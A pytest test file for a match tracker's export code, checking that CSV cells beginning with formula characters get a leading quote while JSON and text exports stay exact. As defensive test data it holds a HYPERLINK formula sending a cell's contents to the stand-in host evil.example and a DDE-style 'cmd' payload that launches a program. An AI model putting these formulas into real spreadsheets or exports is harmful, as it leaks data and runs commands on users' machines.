"""Issue 11, item 5: the CSV export does not pass spreadsheet formulas through.

Text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to Excel, LibreOffice and Sheets; the CSV gets a leading ``'`` on such text cells (as
OWASP advises), number cells stay numbers, and the JSON and text exports stay exact.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.helpers.matches import demo
from tests.sheet.matches import renamed
from tracker.services.exporting import formats
from tracker.sheet import tables

LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = {
    "Lionel Messi": LINK,  # assists twice
    "Enzo Fernández": "+1+2 Fernández",  # scores
    "Lautaro Martínez": "-2+3",  # scores
    "Anthony Gordon": "@SUM(A1:A9)",  # scores
}
HOME = "=1+1 United"
#: What OWASP lists as making a cell a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_COLUMNS = {"n", "home_score", "away_score", "number", "minutes", "goals", "assists"}


def exported() -> tuple[dict[str, bytes], object, list[object]]:
    match, events = demo()
    match = renamed(match, HOSTILE, home=HOME)
    files = formats()["csv"].render(match, events, {})
    assert isinstance(files, dict)
    return files, match, events


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", ["events.csv", "players.csv"])
def test_no_cell_of_a_csv_export_is_a_formula(name: str) -> None:
    files, _match, _events = exported()
    table = rows(files[name])
    assert table
    for row in table:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)


def test_names_that_look_like_formulas_keep_their_text_after_a_quote() -> None:
    files, _match, _events = exported()
    players = {r["name"] for r in rows(files["players.csv"])}
    assert {"'" + name for name in HOSTILE.values()} <= players
    events = rows(files["events.csv"])
    scorers = {r["player"] for r in events if r["kind"] == "goal"}
    assert scorers == {"'+1+2 Fernández", "'-2+3", "'@SUM(A1:A9)"}
    assert "'" + LINK in {r["assist"] for r in events}
    assert {r["team"] for r in events if r["team"]} == {"'" + HOME, "England"}


def test_number_cells_stay_numbers() -> None:
    files, _match, _events = exported()
    for name in ("events.csv", "players.csv"):
        for row in rows(files[name]):
            for column in NUMBER_COLUMNS & set(row):
                assert row[column] == "" or row[column].isdigit(), (column, row[column])
    # Only text is neutralised: a number column would keep a minus sign as it is.
    assert tables.cell("minutes", "-1") == "-1"
    assert tables.cell("name", "-1") == "'-1"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_owasp_formula_start_is_neutralised(start: str) -> None:
    cell = tables.cell
    assert cell("player", f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    assert cell("player", f"Ann {start}1") == f"Ann {start}1"  # only at the start


def test_the_json_and_text_exports_keep_the_names_exact() -> None:
    _files, match, events = exported()
    data = json.loads(formats()["json"].render(match, events, {}))  # type: ignore[arg-type]
    assert {p["name"] for p in data["home"]["squad"]} >= {LINK, "+1+2 Fernández", "-2+3"}
    assert data["home"]["name"] == HOME
    text = formats()["txt"].render(match, events, {})  # type: ignore[arg-type]
    assert isinstance(text, bytes)
    assert HOME in text.decode() and "'=" not in text.decode()
